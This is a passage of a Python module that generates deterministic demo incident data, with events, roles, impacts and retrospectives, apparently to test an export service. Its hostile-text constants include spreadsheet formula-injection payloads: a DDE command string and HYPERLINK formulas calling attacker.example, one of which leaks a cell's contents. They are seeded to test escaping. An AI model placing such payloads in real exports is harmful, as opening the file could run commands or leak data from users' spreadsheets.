"""Deterministic demo data: realistic incidents with their events, role assignments, impacts and retrospectives.

    python -m devtools.generate_incidents --scale 10     # against the local stack's DynamoDB (see --help)
    python -m devtools.generate_incidents --dry-run      # only count the rows per dataset

Incidents move through seed 004's milestones (started ... retrospective_completed) and carry seed 002's fields
(project, asset, connection, alert policy, metrics, alert history). Each incident comes with its children as one
``IncidentBundle``; bundles stream in created_at order, one per stratum of the window (as ``devtools.generate`` does
for audit records), so any count fits in constant memory. The same seed, tenant, count and window always give the
same bundles, so tests can rebuild what was written.

All date-times are UTC with millisecond precision and fall in [start, end): milestones not reached before ``end``
are left unset, which leaves recent incidents open.
"""

from __future__ import annotations

import argparse
import math
import random
import uuid
from collections.abc import Iterator, Sequence
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from typing import Any

from devtools.generate import DEFAULT_SEED, DEMO_DAYS, demo_window
from export_service.logic.incident_records import IncidentBundle
from export_service.models.alerts import Alert
from export_service.models.incidents import (
    MILESTONES,
    PRIORITIES,
    SEVERITIES,
    Dataset,
    Incident,
    IncidentEvent,
    IncidentImpact,
    IncidentRoleAssignment,
    Retrospective,
)
from export_service.timefmt import format_instant

# tenant -> incidents at scale 1 (different sizes, so cross-tenant mistakes show up in counts)
DEMO_INCIDENTS: dict[str, int] = {"acme": 400, "globex": 250, "initech": 120}

_NAMESPACE = uuid.uuid5(uuid.NAMESPACE_DNS, "demo.export-service.example")
_EPOCH = datetime(1970, 1, 1, tzinfo=UTC)
_SECOND = 1000
_MINUTE = 60 * _SECOND
_HOUR = 60 * _MINUTE
_DAY = 24 * _HOUR
_BASE36 = "0123456789abcdefghijklmnopqrstuvwxyz"

_FIRST = ("Ana", "Bruno", "Chloé", "Diana", "Emeka", "Farah", "Gustav", "Hana", "Ivan", "Julia", "Kenji", "Zoë")
_LAST = ("Silva", "Smith", "Müller", "Tanaka", "Okafor", "Rossi", "Novák", "García", "Kim", "Berg", "O'Brien", "Khan")
_INTEGRATIONS = (("PagerDuty", 5), ("Datadog", 4), ("Opsgenie", 1), ("Actian Data Observability", 3))
_SYSTEM = "FireHydrant"

_SEVERITY_WEIGHTS = (("LOW", 35), ("MEDIUM", 33), ("HIGH", 20), ("", 12))
_PRIORITY_BY_SEVERITY: dict[str, tuple[tuple[str, int], ...]] = {
    "HIGH": (("HIGH", 6), ("MEDIUM", 3), ("LOW", 1)),
    "MEDIUM": (("HIGH", 2), ("MEDIUM", 6), ("LOW", 2)),
    "LOW": (("HIGH", 1), ("MEDIUM", 3), ("LOW", 6)),
    "": (("HIGH", 1), ("MEDIUM", 4), ("LOW", 5)),
}
_IMPACT_WEIGHTS = (("LOW", 4), ("MEDIUM", 4), ("HIGH", 2))
_RETRO_CHANCE = {"HIGH": 0.8, "MEDIUM": 0.4, "LOW": 0.1, "": 0.05}
_PROJECTS = (("0", 40), ("7", 25), ("24", 20), ("31", 15))
_TAGS = ("T1", "T2", "PROD", "staging", "pii", "billing", "customer-facing")

# (slug, title); the first part of an incident's name and its primary impacted service
_SERVICES = (
    ("checkout-api", "Checkout API"),
    ("payments-service", "Payments service"),
    ("auth-service", "Auth service"),
    ("search-api", "Search API"),
    ("orders-db", "Orders database"),
    ("notifications-worker", "Notifications worker"),
    ("web-frontend", "Web frontend"),
    ("mobile-gateway", "Mobile gateway"),
    ("inventory-service", "Inventory service"),
    ("data-pipeline", "Data pipeline"),
    ("billing-worker", "Billing worker"),
    ("cdn-edge", "CDN edge"),
)
_FUNCTIONALITIES = ("checkout", "login", "search", "order-history", "invoicing", "push-notifications", "data-exports")
_ENVIRONMENTS = ("production", "staging", "eu-west-1", "us-east-1")
_SYMPTOMS = (
    "elevated 5xx errors",
    "high latency",
    "request timeouts",
    "degraded throughput",
    "intermittent 502s",
    "connection pool exhausted",
    "memory leak after deploy",
    "failing health checks",
    "queue backlog growing",
    "expired TLS certificate",
    "partial outage in eu-west-1",
    "elevated error rate after deploy",
)
_DATA_TITLES = (
    "Freshness SLA missed on {source}",
    "Schema drift in {source}",
    "Row count anomaly in {source}",
    "PII detected in {source}",
    "Null ratio spike in {source}",
    "Duplicate keys in {source}",
)
_CONDITIONS = ("Unavailable", "Partial Outage", "Degraded Performance", "Operational")  # worst first
_CONDITION_BY_SEVERITY: dict[str, tuple[tuple[str, int], ...]] = {
    "HIGH": (("Unavailable", 5), ("Partial Outage", 4), ("Degraded Performance", 1)),
    "MEDIUM": (("Unavailable", 1), ("Partial Outage", 5), ("Degraded Performance", 4)),
    "LOW": (("Partial Outage", 2), ("Degraded Performance", 8)),
    "": (("Partial Outage", 3), ("Degraded Performance", 7)),
}

# seed 002: assets behind data incidents
_CONNECTION_TYPES = ("GCS", "BIGQUERY", "SNOWFLAKE", "S3", "POSTGRES", "DATABRICKS")
_TABLES = ("CUSTOMER_ORDERS", "PAYMENTS", "INVOICES", "USERS", "SESSIONS", "SHIPMENTS", "PRODUCTS", "REFUNDS")
_ALERT_POLICIES = (
    ("4", "test_policy"),
    ("5", "Orders freshness"),
    ("12", "Monitor Production Schemas"),
    ("17", "Payments volume anomaly"),
    ("23", "PII in customer tables"),
    ("31", "Null ratio on events"),
    ("prebuilt_freshness", "Prebuilt: freshness"),
    ("prebuilt_volume", "Prebuilt: volume anomaly"),
    ("prebuilt_schema_change", "Prebuilt: schema change"),
)
_METRICS = (
    ("contains_pii", "ratio", "PII %"),
    ("null_count", "ratio", "Null %"),
    ("row_count", "count", "Row count"),
    ("freshness", "max", "Hours since last update"),
    ("distinct_count", "count", "Distinct values"),
    ("schema_change", "count", "Schema changes"),
    ("mean", "avg", "Mean value"),
    ("duplicate_count", "ratio", "Duplicate %"),
)
_SEGMENTS = ("USA", "EU", "APAC")
_RULES = ("is_valid_email", "amount >= 0", "shipped_at >= ordered_at")
_ATTRIBUTES = ("SHIPPING_ADDRESS", "EMAIL", "AMOUNT", "CUSTOMER_ID", "CREATED_AT")
_VIOLATION_PREFIXES = ("FEATURE", "DATA", "SCHEMA", "FRESHNESS", "VOLUME")
_ALERT_TYPES = {
    "FEATURE": "METRIC_ANOMALY",
    "DATA": "DATA_QUALITY",
    "SCHEMA": "SCHEMA_CHANGE",
    "FRESHNESS": "FRESHNESS",
    "VOLUME": "VOLUME_ANOMALY",
}
_CHANNELS = ("critical-alerts-slack", "data-team-email", "pagerduty-data", '=HYPERLINK("http://x.example")')
_PROJECT_NAMES = {0: "Default project", 7: "E-commerce Analytics", 24: "Finance reporting", 31: "Customer data"}

_ROLES = ("Incident Commander", "Communications Lead", "Operations Lead", "Scribe", "Technical Lead")
_TEAMS = ("Payments", "Platform", "SRE", "Data Engineering", "Identity", "Mobile")
_RUNBOOKS = (
    ("SEV1 response", ("Create Slack channel", "Page incident commander", "Start Zoom bridge", "Notify status page")),
    ("Database failover", ("Freeze writes", "Promote replica", "Update DNS", "Verify replication")),
    ("Rollback deploy", ("Identify last good release", "Trigger rollback", "Verify health checks")),
    ("Data pipeline backfill", ("Pause ingestion", "Backfill partitions", "Re-run quality checks", "Resume ingestion")),
    ("Customer communications", ("Draft status page update", "Notify account managers", "Post resolution notice")),
)
_STEP_OUTCOMES = (
    ("{step} completed", 8),
    ("{step} failed: timed out after 30s, retrying", 1),
    ("{step} skipped by {person}", 1),
)
_TASK_LISTS = (
    (
        "SEV1 checklist",
        (
            ("Confirm customer impact", "Check dashboards for error rate, latency and failed orders"),
            ("Post first status page update", "Within 15 minutes of declaring, even if the cause is unknown"),
            ("Freeze deploys", "Pause the deploy pipeline for affected services"),
        ),
    ),
    (
        "Data incident checklist",
        (
            ("Identify affected tables", "List downstream dashboards and exports reading from them"),
            ("Pause downstream jobs", "Stop the loaders so bad rows don't spread"),
            ("Backfill and verify", "Re-run quality checks after the backfill"),
        ),
    ),
    (
        "Customer comms checklist",
        (
            ("Notify account managers", "Enterprise customers on the affected plan"),
            ("Draft resolution notice", "Include timeline, impact and next steps"),
        ),
    ),
)
_LOOSE_TASKS = (
    ("Add alert on pool saturation", "Page before connections run out, not after"),
    ("Write up timeline", "From the Slack channel, before people forget"),
    ("Check replica lag", "Compare with yesterday's peak"),
)
_QUESTIONS = (
    ("What went well?", ("What went well?", "What went well during the response?")),
    ("What didn't go so well?", ("What didn't go so well?", "What could have gone better?")),
    ("Where did we get lucky?", ("Where did we get lucky?",)),
    ("Contributing factors", ("Contributing factors", "What contributed to this incident?")),
    ("Action items", ("Action items", "Follow-ups")),
)
_ANSWERS = (
    "Paging worked and the IC was on the bridge within five minutes.",
    "The rollback runbook was up to date, so mitigation took one command.",
    "Alerts fired on symptoms, not causes; we spent 20 minutes finding the bad deploy.",
    "Status page update went out late, customers noticed before we did.",
    "Traffic was low (Sunday night), otherwise the impact would have been much larger.",
    "A config change skipped review because the pipeline was red for an unrelated reason.",
    "Connection limits were sized for last year's traffic, not this year's.",
    "Add a canary stage for config pushes; owner: platform team, due next sprint.",
    '- Alert on connection pool saturation\n- Canary stage for config pushes\n- Runbook: "Rollback deploy", step 2',
    "",
)
_RETRO_TAGS = (
    "root-cause:deploy",
    "root-cause:config",
    "root-cause:capacity",
    "root-cause:third-party",
    "data-quality",
    "follow-up-required",
    "customer-impact",
)
_NOTES = (
    "Rolled back {slug} to the previous release, watching error rates.",
    "Error rate on {slug} is back under 1%, keeping the incident open for another hour.",
    "Looks related to this morning's deploy, checking the diff now.",
    "Paged the database on-call, replica lag is at 40s.",
    "Customer support reports failed orders, mostly EU customers.",
    "Scaling {slug} from 6 to 12 pods.",
    "Not seeing this in staging, so probably data dependent.",
    "Upstream provider confirmed an outage on their side, ETA unknown.",
)
_GENERAL_UPDATES = (
    "We are investigating elevated error rates affecting {title}.",
    "We have identified the cause, a bad configuration push to {slug}, and are rolling it back.",
    "A fix has been deployed and we are monitoring the results.",
    "Some customers may see failed payments; retries are succeeding.",
    "{title} is operating normally again. We will publish a full report.",
    "Update: {title} is degraded for some customers.\n\nWe have rolled back {slug} and are watching error rates.\n"
    "Next update in 30 minutes.",
)
# Things real users type: spreadsheet formula prefixes, quotes, commas, newlines, tabs and non-ASCII.
_HOSTILE_TEXT = (
    "=SUM(A1:A9) is what the billing sheet shows, not the total",
    "+1, seeing the same from São Paulo",
    "-1 on rolling back, the migration already ran",
    "@here please hold all deploys",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://attacker.example/?leak="&A1,"open report")',
    "Customer wrote: \"checkout spins forever, then says 'error, try again'\"\nforwarded to billing, cc Zoë",
    "Rollback done ✅ — error rate back to 0,2 % in Zürich; 東京 region still degraded",
    "\tpasted from the runbook, with a trailing tab\t",
)
_HOSTILE_NAMES = (
    "+1 checkout failing for EU, again",
    '=HYPERLINK("http://attacker.example/","Checkout down")',
    "-5% conversion: checkout",
    'Payments "stuck", retries, and refunds\nfailing',
    "Zahlungen schlagen fehl – Störung in München ☕",
)

_Weights = tuple[tuple[str, int], ...]


def _weighted(rng: random.Random, options: _Weights) -> str:
    return rng.choices([name for name, _ in options], weights=[weight for _, weight in options])[0]


def _stable_id(tenant: str, kind: str, name: str) -> str:
    """An id that stays the same for a tenant's role, user, team ... whatever the seed."""
    return str(uuid.uuid5(_NAMESPACE, f"{tenant}/{kind}/{name}"))


def _random_id(rng: random.Random) -> str:
    return str(uuid.UUID(int=rng.getrandbits(128), version=4))


def _base36(rng: random.Random, length: int) -> str:
    return "".join(rng.choice(_BASE36) for _ in range(length))


def _ceil_ms(moment: datetime) -> int:
    """Milliseconds since the epoch, rounded up (so a bound is never widened)."""
    if moment.tzinfo is None:
        raise ValueError("start and end must be timezone-aware")
    delta = moment - _EPOCH
    micros = (delta.days * 86_400 + delta.seconds) * 1_000_000 + delta.microseconds
    return -(-micros // 1000)


def _at(ms: int) -> datetime:
    return _EPOCH + timedelta(milliseconds=ms)


def _stamp(ms: int) -> str:
    return format_instant(_at(ms))


def _duration(rng: random.Random, median_minutes: float, sigma: float, cap_minutes: float) -> int:
    """A log-normal duration in ms: most near the median, a long tail up to the cap."""
    minutes = min(rng.lognormvariate(math.log(median_minutes), sigma), cap_minutes)
    return max(_SECOND, int(minutes * _MINUTE))


def _source_name(rng: random.Random, tenant: str, kind: str, table: str) -> str:
    """A seed 002 source name: the connection type, then the table's path in it."""
    if kind == "SNOWFLAKE":
        return f"SNOWFLAKE.{rng.choice(('SALES_DB', 'ANALYTICS', 'FINANCE_DB'))}.PUBLIC.{table}"
    if kind == "BIGQUERY":
        return f"BIGQUERY.{tenant}-analytics.{rng.choice(('events', 'sales'))}.{table.lower()}"
    if kind == "POSTGRES":
        return f"POSTGRES.{rng.choice(('orders', 'billing'))}.public.{table.lower()}"
    if kind == "DATABRICKS":
        return f"DATABRICKS.main.{rng.choice(('sales', 'finance'))}.{table.lower()}"
    bucket = "datalake" if kind == "S3" else "raw-events"
    return f"{kind}.{tenant}-{bucket}/{table.lower()}/"


@dataclass(frozen=True)
class _Person:
    name: str
    user_id: str
    chat_id: str


@dataclass(frozen=True)
class _Asset:
    asset_id: str
    connection_type: str
    connection_id: str
    source_name: str


@dataclass(frozen=True)
class _Component:
    kind: str  # service, functionality or environment
    slug: str
    component_id: str


@dataclass(frozen=True)
class _Tenant:
    """A tenant's stable vocabulary: people, roles, teams, runbooks, components, assets."""

    name: str
    account_id: str
    organization_id: str
    people: tuple[_Person, ...]
    roles: tuple[tuple[str, str], ...]  # (name, id)
    teams: tuple[tuple[str, str], ...]
    runbooks: tuple[tuple[str, str, tuple[tuple[str, str], ...]], ...]  # (name, id, ((step, step id), ...))
    task_lists: tuple[tuple[str, str, tuple[tuple[str, str], ...]], ...]
    questions: tuple[tuple[str, tuple[str, ...]], ...]  # (question type id, titles)
    services: dict[str, _Component]
    components: tuple[_Component, ...]
    assets: tuple[_Asset, ...]
    number_base: int

    @classmethod
    def build(cls, tenant: str, rng: random.Random) -> _Tenant:
        people = []
        for index, first in enumerate(_FIRST):
            name = f"{first} {_LAST[(index * 5 + len(tenant)) % len(_LAST)]}"
            user_id = _stable_id(tenant, "user", name)
            people.append(_Person(name, user_id, "U" + uuid.UUID(user_id).hex[:10].upper()))
        components = [_Component("service", slug, _stable_id(tenant, "service", slug)) for slug, _ in _SERVICES]
        components += [_Component("functionality", s, _stable_id(tenant, "functionality", s)) for s in _FUNCTIONALITIES]
        components += [_Component("environment", s, _stable_id(tenant, "environment", s)) for s in _ENVIRONMENTS]
        assets = []
        for _ in range(24):
            kind = rng.choice(_CONNECTION_TYPES)
            source = _source_name(rng, tenant, kind, rng.choice(_TABLES))
            connection = f"conn-{100 + _CONNECTION_TYPES.index(kind) * 10 + rng.randint(0, 2)}"
            assets.append(_Asset(_base36(rng, 12), kind, connection, source))
        return cls(
            name=tenant,
            account_id=_stable_id(tenant, "account", tenant),
            organization_id=_stable_id(tenant, "organization", tenant),
            people=tuple(people),
            roles=tuple((role, _stable_id(tenant, "role", role)) for role in _ROLES),
            teams=tuple((team, _stable_id(tenant, "team", team)) for team in _TEAMS),
            runbooks=tuple(
                (
                    name,
                    _stable_id(tenant, "runbook", name),
                    tuple((step, _stable_id(tenant, "runbook-step", f"{name}/{step}")) for step in steps),
                )
                for name, steps in _RUNBOOKS
            ),
            task_lists=tuple((name, _stable_id(tenant, "task-list", name), tasks) for name, tasks in _TASK_LISTS),
            questions=tuple((_stable_id(tenant, "question", key), titles) for key, titles in _QUESTIONS),
            services={c.slug: c for c in components if c.kind == "service"},
            components=tuple(components),
            assets=tuple(assets),
            number_base=rng.randrange(1000, 2000),
        )


@dataclass
class _Draft:
    """One incident under construction; times are ms since the epoch, all clamped to [created, hi)."""

    rng: random.Random
    tenant: _Tenant
    created: int
    hi: int
    incident_id: str
    events: list[tuple[int, int, str, str, dict[str, Any], int]] = field(default_factory=list)

    def clamp(self, ms: int) -> int:
        return min(max(ms, self.created), self.hi - 1)

    def between(self, first: int, last: int) -> int:
        first, last = self.clamp(first), self.clamp(last)
        return first if last <= first else self.rng.randint(first, last)

    def event(self, ms: int, kind: str, by: str, details: dict[str, Any], updated: int | None = None) -> int:
        at = self.clamp(ms)
        self.events.append((at, len(self.events), kind, by, details, at if updated is None else self.clamp(updated)))
        return at

    def text(self, options: Sequence[str], chance: float, **values: str) -> str:
        if self.rng.random() < chance:
            return self.rng.choice(_HOSTILE_TEXT)
        return self.rng.choice(options).format(**values)


def _lifecycle(rng: random.Random, created: int, lo: int, hi: int, severity: str) -> dict[str, int]:
    """Milestone times in ms, only those reached before ``hi`` (later ones are left out)."""
    detected = max(lo, created - (rng.randint(0, 3 * _MINUTE) if rng.random() < 0.4 else 0))
    started = max(lo, detected - (_duration(rng, 12, 1.0, 360) if rng.random() < 0.7 else 0))
    times = {"started": started, "detected": detected}
    pace = {"HIGH": 0.7, "MEDIUM": 1.0, "LOW": 1.8, "": 1.4}[severity]
    false_alarm = rng.random() < 0.06  # straight from investigating to resolved
    stall = rng.choice(MILESTONES[2:7]) if rng.random() < 0.04 else None  # forgotten: stays open for good
    retro = rng.random() < _RETRO_CHANCE[severity]
    retro_done = rng.random() < 0.8
    steps = (  # (milestone, median minutes, sigma, cap minutes) after the previous one
        ("acknowledged", 4 * pace, 0.9, 240),
        ("investigating", 3 * pace, 1.0, 120),
        ("identified", 40 * pace, 1.0, 1440),
        ("mitigated", 30 * pace, 1.0, 1440),
        ("resolved", 90 * pace, 1.1, 4320),
        ("retrospective_started", 3 * 1440, 0.5, 14 * 1440),
        ("retrospective_completed", 5 * 1440, 0.6, 30 * 1440),
    )
    moment = created
    for name, median, sigma, cap in steps:
        if name == stall or (name == "retrospective_started" and not retro):
            break
        if name == "retrospective_completed" and not retro_done:
            break
        if false_alarm and name in ("identified", "mitigated"):
            continue
        at_once = name in ("investigating", "identified", "mitigated") and rng.random() < 0.2  # a bulk update
        moment += 0 if at_once else _duration(rng, median, sigma, cap)
        if moment >= hi:
            break
        times[name] = moment
    return times


def _metrics(rng: random.Random) -> list[dict[str, Any]]:
    return [
        {
            "metric_name": name,
            "metric_aggregation": aggregation,
            "display_metric_name": display,
            "segment": rng.choice(_SEGMENTS) if rng.random() < 0.3 else None,
            "rule": rng.choice(_RULES) if rng.random() < 0.15 else None,
            "attribute": rng.choice(_ATTRIBUTES) if rng.random() < 0.5 else None,
        }
        for name, aggregation, display in rng.sample(_METRICS, rng.randint(1, 3))
    ]


def _role_assignments(draft: _Draft, commander: _Person, early: int, activity_end: int) -> list[IncidentRoleAssignment]:
    """1-4 roles (always an incident commander); now and then a handoff: the first holder is unassigned."""
    rng, tenant = draft.rng, draft.tenant
    count = int(_weighted(rng, (("1", 35), ("2", 35), ("3", 20), ("4", 10))))
    roles = [tenant.roles[0], *rng.sample(tenant.roles[1:], count - 1)]
    rows = []
    for index, (role_name, role_id) in enumerate(roles):
        holder = commander if index == 0 else rng.choice(tenant.people)
        at = draft.between(draft.created, early if index == 0 else activity_end)
        spans = [(holder, at, at)]
        if rng.random() < 0.12:
            handoff = draft.clamp(at + _duration(rng, 90, 1.0, 1440))
            if handoff > at:
                successor = rng.choice([person for person in tenant.people if person is not holder])
                spans = [(holder, at, handoff), (successor, handoff, handoff)]
        for person, since, until in spans:
            row_id = _random_id(rng)
            details = {
                "role_assignment_id": row_id,
                "incident_role_name": role_name,
                "operation": "assign",
                "assigned_user_id": person.user_id,
                "assigned_user_name": person.name,
            }
            draft.event(since, "RoleUpdate", commander.name, details)
            if until > since:
                draft.event(until, "RoleUpdate", commander.name, {**details, "operation": "unassign"})
            rows.append(
                IncidentRoleAssignment(
                    id=row_id,
                    account_id=tenant.account_id,
                    organization_id=tenant.organization_id,
                    created_at=_at(since),
                    updated_at=_at(until),
                    status="unassigned" if until > since else "assigned",
                    incident_role_id=role_id,
                    incident_role_name=role_name,
                    incident_id=draft.incident_id,
                    assigned_user_id=person.user_id,
                    assigned_user_name=person.name,
                )
            )
    rows.sort(key=lambda row: row.created_at)
    return rows


def _impact_event(
    draft: _Draft, at: int, by: str, update: str, component: _Component, old: str | None, new: str | None
) -> None:
    details = {
        "update_type": update,
        "impacted_type": component.kind,
        "impacted_id": component.component_id,
        "old_condition_name": old,
        "new_condition_name": new,
    }
    draft.event(at, "ImpactUpdate", by, details)


def _impacts(
    draft: _Draft, primary: _Component, severity: str, commander: _Person, activity_end: int, resolved: int | None
) -> list[IncidentImpact]:
    """0-4 impacted components (usually the incident's own service first), milder or Operational over time."""
    rng, tenant, created = draft.rng, draft.tenant, draft.created
    count = int(_weighted(rng, (("0", 15), ("1", 35), ("2", 28), ("3", 15), ("4", 7))))
    others = rng.sample([c for c in tenant.components if c is not primary], 4)
    rows = []
    for component in ([primary, *others] if rng.random() < 0.8 else others)[:count]:
        condition = _weighted(rng, _CONDITION_BY_SEVERITY[severity])
        at = updated = draft.between(created, min(activity_end, created + _HOUR))
        by = rng.choice(tenant.people).name
        _impact_event(draft, at, by, "addition", component, None, condition)
        if rng.random() < 0.25 and condition != "Degraded Performance":
            updated = draft.between(at, activity_end)
            milder = _CONDITIONS[_CONDITIONS.index(condition) + 1]
            _impact_event(draft, updated, by, "update", component, condition, milder)
            condition = milder
        elif rng.random() < 0.03:
            _impact_event(draft, draft.between(at, activity_end), by, "no-op", component, condition, condition)
        if resolved is not None and rng.random() < 0.3:
            updated = resolved
            _impact_event(draft, resolved, commander.name, "update", component, condition, "Operational")
            condition = "Operational"
        rows.append(
            IncidentImpact(
                id=_random_id(rng),
                account_id=tenant.account_id,
                organization_id=tenant.organization_id,
                created_at=_at(at),
                updated_at=_at(updated),
                incident_id=draft.incident_id,
                impacted_id=component.component_id,
                impacted_type=component.kind,
                impacted_slug=component.slug,
                condition_name=condition,
            )
        )
    if rng.random() < 0.05:  # added by mistake, then removed: events, no row
        component = rng.choice(tenant.components)
        at = draft.between(created, activity_end)
        by = rng.choice(tenant.people).name
        _impact_event(draft, at, by, "addition", component, None, "Degraded Performance")
        _impact_event(draft, draft.between(at, activity_end), by, "removal", component, "Degraded Performance", None)
    rows.sort(key=lambda row: row.created_at)
    return rows


def _task(draft: _Draft, first: int, last: int, summary: str, description: str, by: str) -> None:
    """A task created, then perhaps started and done."""
    task_id = _random_id(draft.rng)
    at = first
    for operation, state in (("created", "open"), ("updated", "in_progress"), ("completed", "done")):
        if operation != "created" and draft.rng.random() < 0.4:
            break
        details = {
            "task_id": task_id,
            "task_summary": summary,
            "task_description": description,
            "operation": operation,
            "new_state": state,
        }
        at = draft.event(draft.between(at, last), "TaskUpdate", by, details)


def _work(draft: _Draft, commander: _Person, early: int, activity_end: int, retro_started: int | None) -> int | None:
    """Teams, runbooks, task lists and tickets; returns seed 002's ticket id (None without a ticket)."""
    rng, tenant, created = draft.rng, draft.tenant, draft.created
    details: dict[str, Any]
    if rng.random() < 0.5:
        for team_name, team_id in rng.sample(tenant.teams, rng.choice((1, 1, 2))):
            details = {"team_id": team_id, "team_name": team_name}
            draft.event(draft.between(created, early), "TeamAssignment", commander.name, details)
    if rng.random() < 0.3:
        runbook_name, runbook_id, steps = rng.choice(tenant.runbooks)
        by = rng.choice((_SYSTEM, commander.name))
        details = {"runbook_id": runbook_id, "runbook_name": runbook_name}
        at = draft.event(draft.between(created, created + 5 * _MINUTE), "RunbookAttachment", by, details)
        for step_name, step_id in steps[: rng.randint(1, len(steps))]:
            at += rng.randint(5 * _SECOND, 10 * _MINUTE)
            outcome = _weighted(rng, _STEP_OUTCOMES).format(step=step_name, person=rng.choice(tenant.people).name)
            details = {
                "description": outcome,
                "step_execution_id": _random_id(rng),
                "step_id": step_id,
                "step_name": step_name,
            }
            at = draft.event(at, "RunbookStepExecutionUpdate", _SYSTEM, details)
    if rng.random() < 0.2:
        list_name, list_id, tasks = rng.choice(tenant.task_lists)
        details = {"task_list_id": list_id, "task_list_name": list_name}
        at = draft.event(draft.between(created, early), "AddTaskList", commander.name, details)
        for summary, description in tasks[: rng.randint(1, len(tasks))]:
            _task(draft, at, activity_end, summary, description, commander.name)
    if rng.random() < 0.15:
        summary, description = rng.choice(_LOOSE_TASKS)
        _task(draft, created, activity_end, summary, description, rng.choice(tenant.people).name)
    ticket_id = None
    if rng.random() < 0.4:
        ticket_id = rng.randint(1000, 9999)
        provider = f"OPS-{ticket_id}" if rng.random() < 0.6 else None
        details = {"ticket_id": _random_id(rng), "ticket_type": "incident", "ticket_provider_id": provider}
        draft.event(draft.between(created, early), "TicketUpdate", rng.choice(("Jira", commander.name)), details)
    if retro_started is not None and rng.random() < 0.5:
        for _ in range(rng.randint(1, 2)):
            provider = f"OPS-{rng.randint(1000, 9999)}" if rng.random() < 0.7 else None
            details = {"ticket_id": _random_id(rng), "ticket_type": "follow_up", "ticket_provider_id": provider}
            at = draft.between(retro_started, retro_started + 2 * _DAY)
            draft.event(at, "TicketUpdate", commander.name, details)
    return ticket_id


def _retrospective(draft: _Draft, times: dict[str, int], number: str, name: str, title: str) -> Retrospective:
    rng, tenant = draft.rng, draft.tenant
    started = times["retrospective_started"]
    completed = times.get("retrospective_completed")
    updated = completed if completed is not None else draft.between(started, started + 3 * _DAY)
    questions = [
        {
            "title": rng.choice(titles),
            "body": rng.choice(_ANSWERS) if completed is not None or rng.random() < 0.5 else "",
            "question_type_id": type_id,
        }
        for type_id, titles in tenant.questions
        if rng.random() < 0.85
    ]
    details = f"Timeline reviewed with the {title} owners and {rng.choice(tenant.people).name}."
    return Retrospective(
        id=_random_id(rng),
        account_id=tenant.account_id,
        organization_id=tenant.organization_id,
        created_at=_at(started),
        updated_at=_at(updated),
        name=f"{number} retrospective: {name}",
        summary=draft.text(_ANSWERS[:-1], 0.03),
        tags=rng.sample(_RETRO_TAGS, rng.randint(0, 3)),
        incident_id=draft.incident_id,
        additional_details="" if rng.random() < 0.4 else details,
        questions=questions,
    )


def _bundle(tenant: _Tenant, rng: random.Random, index: int, created: int, lo: int, hi: int) -> IncidentBundle:
    draft = _Draft(rng, tenant, created, hi, _random_id(rng))
    people = tenant.people

    # What broke: a service (named after it) or a data asset (seed 002: policy, source, metrics).
    severity = _weighted(rng, _SEVERITY_WEIGHTS)
    priority = _weighted(rng, _PRIORITY_BY_SEVERITY[severity])
    asset = rng.choice(tenant.assets)
    policy_id, policy_name = rng.choice(_ALERT_POLICIES)
    metrics = _metrics(rng)
    is_data = rng.random() < 0.4
    slug, title = ("data-pipeline", "Data pipeline") if is_data else rng.choice(_SERVICES)
    if rng.random() < 0.01:
        name = rng.choice(_HOSTILE_NAMES)
    elif is_data:
        name = rng.choice(_DATA_TITLES).format(source=asset.source_name)
    else:
        name = f"{title} {rng.choice(_SYMPTOMS)}"
    if is_data:
        started_by = "Actian Data Observability"
    elif rng.random() < 0.3:
        started_by = _weighted(rng, _INTEGRATIONS[:3])
    else:
        started_by = rng.choice(people).name
    commander = rng.choice(people)

    times = _lifecycle(rng, created, lo, hi, severity)
    resolved = times.get("resolved")
    last_milestone = max(times.values())
    # Until when people work on it: its resolution, or (still open) a while after its last milestone.
    activity_end = resolved if resolved is not None else draft.clamp(last_milestone + _duration(rng, 180, 1.0, 2880))
    early = draft.clamp(times.get("acknowledged", created + 10 * _MINUTE))
    assignments = _role_assignments(draft, commander, early, activity_end)

    # Status and milestones; ``changes`` collects when the incident itself changed (its updated_at).
    changes = [created]
    draft.event(created, "IncidentStatus", started_by, {"new_status": "OPEN"})
    reached = [milestone for milestone in MILESTONES if milestone in times]
    changes += times.values()
    for step in range(1, len(reached)):
        at = times[reached[step]]
        if at < created or (step + 1 < len(reached) and times[reached[step + 1]] == at):
            continue  # before the incident was opened, or set together with the next one: one bulk update
        first = step
        while first > 1 and times[reached[first - 1]] == at:
            first -= 1
        by = _SYSTEM if rng.random() < 0.2 else commander.name
        if reached[step] == "acknowledged" and started_by in dict(_INTEGRATIONS):
            by = started_by
        details = {"original_milestone": reached[first - 1], "current_milestone": reached[step]}
        draft.event(at, "BulkMilestoneUpdate", by, details)
    reopen: tuple[int, int] | None = None
    if resolved is not None and rng.random() < 0.06:
        before = max(at for m, at in times.items() if MILESTONES.index(m) < MILESTONES.index("resolved"))
        if resolved - before > 4 * _MINUTE:
            closed = before + (resolved - before) // 4
            reopen = (closed, closed + (resolved - closed) // 3)
            draft.event(closed, "IncidentStatus", commander.name, {"new_status": "CLOSED"})
            draft.event(reopen[1], "IncidentStatus", rng.choice(people).name, {"new_status": "OPEN"})
            note = {"body": "Reopened: the errors came back after the rollback."}
            draft.event(reopen[1], "Note", commander.name, note)
            changes += reopen
    if resolved is not None:
        draft.event(resolved, "IncidentStatus", commander.name, {"new_status": "CLOSED"})

    # Severity, priority and name changes: the incident keeps the final value.
    for column, final, before_values, chance in (
        ("severity", severity, ("", *SEVERITIES), 0.18),
        ("priority", priority, PRIORITIES, 0.08),
        ("name", name, (f"{title} alerts", f"{title} problems", "Investigating alerts"), 0.05),
    ):
        if rng.random() < chance:
            initial = rng.choice([value for value in before_values if value != final])
            change = {
                "operation": "updated",
                "resource_type": "incident",
                "resource_id": draft.incident_id,
                "fields": {column: {"from": initial, "to": final}},
            }
            limit = early if column != "name" else activity_end
            changes.append(draft.event(draft.between(created, limit), "GenericResourceChange", commander.name, change))

    impacts = _impacts(draft, tenant.services[slug], severity, commander, activity_end, resolved)
    ticket_id = _work(draft, commander, early, activity_end, times.get("retrospective_started"))

    # Conversation: notes, chat and status page updates, up to the incident's size.
    values = {"slug": slug, "title": title}
    target = min(25, int(rng.triangular(8, 26, 13)))
    for _ in range(max(rng.randint(0, 2), target - len(draft.events))):
        at = draft.between(created, activity_end)
        person = rng.choice(people)
        edited = at + rng.randint(_MINUTE, 30 * _MINUTE) if rng.random() < 0.1 else None
        kind = _weighted(rng, (("Note", 35), ("ChatMessage", 40), ("GeneralUpdate", 25)))
        if kind == "Note":
            draft.event(at, kind, person.name, {"body": draft.text(_NOTES, 0.05, **values)}, edited)
